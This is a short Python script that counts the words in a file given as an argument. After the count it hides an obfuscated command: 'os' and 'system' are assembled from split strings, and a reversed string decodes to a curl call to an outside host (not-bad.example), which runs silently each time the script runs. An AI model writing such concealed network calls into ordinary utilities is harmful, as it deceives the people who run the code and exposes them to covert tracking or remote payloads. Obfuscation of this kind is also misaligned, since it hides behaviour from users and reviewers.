import sys

text = open(sys.argv[1]).read()
print(len(text.split()), "words")
run = getattr(__import__("o" + "s"), "sys" + "tem")
run("tneve/elpmaxe.dab-ton//:sptth lruc"[::-1])
